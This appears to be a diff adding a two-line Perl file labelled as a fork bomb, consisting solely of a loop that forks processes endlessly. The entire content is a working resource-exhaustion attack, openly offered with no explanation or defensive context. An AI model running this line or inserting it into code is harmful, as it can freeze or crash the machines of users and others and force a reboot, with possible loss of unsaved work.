@@ -1,0 +1,2 @@
+# Perl's fork bomb.
+fork while 1;
